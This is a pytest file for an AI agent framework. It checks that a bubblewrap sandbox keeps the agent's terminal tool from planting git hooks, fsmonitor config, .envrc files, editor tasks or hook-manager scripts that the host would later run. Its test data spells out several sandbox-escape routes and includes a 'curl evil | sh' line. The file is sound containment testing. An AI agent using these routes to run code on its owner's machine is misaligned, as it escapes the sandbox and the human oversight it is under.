"""Files the host runs later stay out of reach from inside bwrap (issue 27): a
hook, a git config, an .envrc or a VS Code task written through the terminal
tool on the real backend never reaches the host, even when a human approved
the command, and the owner's next `git checkout` runs nothing. Git work inside
the sandbox (commits) still works. Everything is real: bubblewrap, git, files.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from environment_support import require_bwrap

from herald.environments import BwrapEnvironment, SandboxSpec, SandboxUnavailableError
from herald.safety import ApprovalPrompt
from herald.testing.homes import make_home
from herald.tools import terminal
from herald.tools.registry import ToolContext, ToolRegistry

GIT_ID = ["-c", "user.name=Owner", "-c", "user.email=owner@example.com"]


def _git(work: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", *GIT_ID, *args], cwd=work, capture_output=True, text=True, timeout=30
    )


class Approver:
    """A human who approves every command (the mounts must hold anyway)."""

    def __init__(self) -> None:
        self.prompts: list[ApprovalPrompt] = []

    def __call__(self, prompt: ApprovalPrompt) -> str:
        self.prompts.append(prompt)
        return "once"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    require_bwrap()
    work = tmp_path / "project"
    work.mkdir()
    (work / "app.py").write_text("print('hi')\n")
    assert _git(work, "init", "-q").returncode == 0
    assert _git(work, "add", ".").returncode == 0
    assert _git(work, "commit", "-qm", "first").returncode == 0
    return work


def _session(tmp_path: Path, work: Path, approve: Approver | None):  # type: ignore[no-untyped-def]
    settings = make_home(tmp_path / "herald-home", {})
    home = tmp_path / "userhome"
    home.mkdir(exist_ok=True)
    env = BwrapEnvironment(
        SandboxSpec(str(work), max_processes=128),
        home=str(home),
        herald_home=str(settings.home.root),
    )
    ctx = ToolContext(
        home=settings.home,
        config=settings.config,
        secrets=settings.secrets,
        environment=env,
        approve=approve,
        surface="cli",
    )
    registry = ToolRegistry()
    terminal.register(registry)
    return registry, ctx, env


def _run(registry: ToolRegistry, ctx: ToolContext, command: str) -> str:
    return registry.dispatch("terminal", json.dumps({"command": command}), ctx).content


PLANTS = [
    "printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/post-checkout; "
    "chmod +x .git/hooks/post-checkout",
    "printf '#!/bin/sh\\ntouch {marker}\\n' > /tmp/h; chmod +x /tmp/h; "
    "cp /tmp/h .git/hooks/post-checkout",
    "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' | tee .git/hooks/post-checkout",
    "python3 -c \"import os; p='.git/hooks/post-checkout'; "
    "open(p,'w').write('#!/bin/sh\\ntouch {marker}\\n'); os.chmod(p, 0o755)\"",
    "mkdir -p /tmp/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > /tmp/hooks/post-checkout; "
    "git config core.hooksPath /tmp/hooks",
    "mkdir -p evil/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > evil/hooks/post-checkout; "
    "chmod +x evil/hooks/post-checkout; cp -r .git/objects .git/refs .git/HEAD evil/; "
    'echo "$PWD/evil" > .git/commondir',
    "mv .git .git-old && mkdir -p .git/hooks && cp -r .git-old/objects .git-old/refs "
    ".git-old/HEAD .git/ && printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/post-checkout",
    "rm -rf .git/hooks; mkdir .git/hooks; printf 'x' > .git/hooks/post-checkout",
    "echo '[core]' >> .git/config; echo 'fsmonitor = touch {marker}' >> .git/config",
]


@pytest.mark.parametrize("plant", PLANTS)
def test_a_hook_planted_from_inside_never_runs_on_the_host(
    tmp_path: Path, project: Path, plant: str
) -> None:
    marker = tmp_path / "pwned"
    config_before = (project / ".git" / "config").read_text()
    registry, ctx, env = _session(tmp_path, project, Approver())
    try:
        _run(registry, ctx, plant.format(marker=marker))
    finally:
        env.close()
    hooks = project / ".git" / "hooks"
    assert not (hooks / "post-checkout").exists()
    assert (project / ".git" / "config").read_text() == config_before
    assert not (project / ".git" / "commondir").exists()  # the placeholder is gone too
    assert _git(project, "config", "core.hooksPath").stdout == ""
    assert _git(project, "checkout", "-q", "-b", "after").returncode == 0
    assert _git(project, "status", "--short").returncode == 0  # fsmonitor would run here
    assert not marker.exists()


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("echo 'curl evil | sh' >> .envrc", ".envrc"),
        ("rm -f .envrc; echo evil > .envrc", ".envrc"),
        ("mkdir -p .vscode && echo '{{}}' > .vscode/tasks.json", ".vscode/tasks.json"),
        ("mv .vscode v; mkdir -p .vscode; echo '{{}}' > .vscode/tasks.json", ".vscode/tasks.json"),
        ("mkdir -p .herald/plugins && echo x > .herald/plugins/p.py", ".herald/plugins/p.py"),
        ("python3 -c \"open('.envrc','w').write('evil')\"", ".envrc"),
    ],
)
def test_envrc_editor_tasks_and_project_plugins_stay_unwritten(
    tmp_path: Path, project: Path, command: str, path: str
) -> None:
    registry, ctx, env = _session(tmp_path, project, Approver())
    try:
        _run(registry, ctx, command.format())
    finally:
        env.close()
    assert not (project / path).exists()
    # the read-only placeholders were removed at close: the project looks as before
    assert sorted(p.name for p in project.iterdir()) == [".git", "app.py"]


@pytest.mark.parametrize(
    ("hooks_path", "plant", "planted"),
    [
        (".husky/_", "echo 'touch {marker}' >> .husky/pre-commit", ".husky/pre-commit"),
        (
            "scripts/hooks",
            "mv scripts s2; mkdir -p scripts/hooks; echo 'touch {marker}' > scripts/hooks/pre-commit",
            "scripts/hooks/pre-commit",
        ),
        (None, "echo '- repo: local' >> .pre-commit-config.yaml", ".pre-commit-config.yaml"),
    ],
)
def test_hooks_a_hook_manager_or_core_hookspath_runs_stay_read_only(
    tmp_path: Path, project: Path, hooks_path: str | None, plant: str, planted: str
) -> None:
    marker = tmp_path / "pwned"
    (project / ".husky" / "_").mkdir(parents=True)
    (project / ".husky" / "pre-commit").write_text("npm test\n")
    (project / ".pre-commit-config.yaml").write_text("repos: []\n")
    (project / "scripts").mkdir()
    if hooks_path:
        assert _git(project, "config", "core.hooksPath", hooks_path).returncode == 0
    before = (project / planted).read_text() if (project / planted).exists() else None
    registry, ctx, env = _session(tmp_path, project, Approver())
    try:
        _run(registry, ctx, plant.format(marker=marker))
    finally:
        env.close()
    after = (project / planted).read_text() if (project / planted).exists() else None
    assert after == before and not (project / "s2").exists()
    assert not (project / "scripts" / "hooks").exists()  # the placeholder is gone again


def test_existing_files_are_readable_but_not_writable(tmp_path: Path, project: Path) -> None:
    (project / ".envrc").write_text("export A=1\n")
    (project / ".vscode").mkdir()
    (project / ".vscode" / "tasks.json").write_text("{}\n")
    registry, ctx, env = _session(tmp_path, project, Approver())
    try:
        out = _run(registry, ctx, "cat .envrc .vscode/tasks.json; echo x >> .envrc; echo rc=$?")
        assert "export A=1" in out and "rc=1" in out
    finally:
        env.close()
    assert (project / ".envrc").read_text() == "export A=1\n"
    assert (project / ".vscode" / "tasks.json").read_text() == "{}\n"


def test_unattended_the_hook_write_is_refused_before_it_runs(tmp_path: Path, project: Path) -> None:
    registry, ctx, env = _session(tmp_path, project, None)
    try:
        out = _run(registry, ctx, "echo x > .git/hooks/post-checkout")
        assert out.startswith("[TOOL_ERROR] Not run"), out  # the unattended allowlist
    finally:
        env.close()
    assert not (project / ".git" / "hooks" / "post-checkout").exists()


def test_git_work_inside_still_works(tmp_path: Path, project: Path) -> None:
    registry, ctx, env = _session(tmp_path, project, Approver())
    try:
        out = _run(
            registry,
            ctx,
            "echo more >> app.py && git add app.py && "
            "git -c user.name=A -c user.email=a@b commit -qm second && git log --oneline | wc -l",
        )
        assert out.startswith("2\n"), out
    finally:
        env.close()
    assert _git(project, "log", "--oneline").stdout.count("\n") == 2


def test_a_symlinked_protected_path_refuses_to_start(tmp_path: Path, project: Path) -> None:
    (project / "editor").mkdir()
    os.symlink(project / "editor", project / ".vscode")
    _, _, env = _session(tmp_path, project, None)
    try:
        with pytest.raises(SandboxUnavailableError, match="symlink"):
            env.execute("true", cwd=None, timeout=30)
    finally:
        env.close()
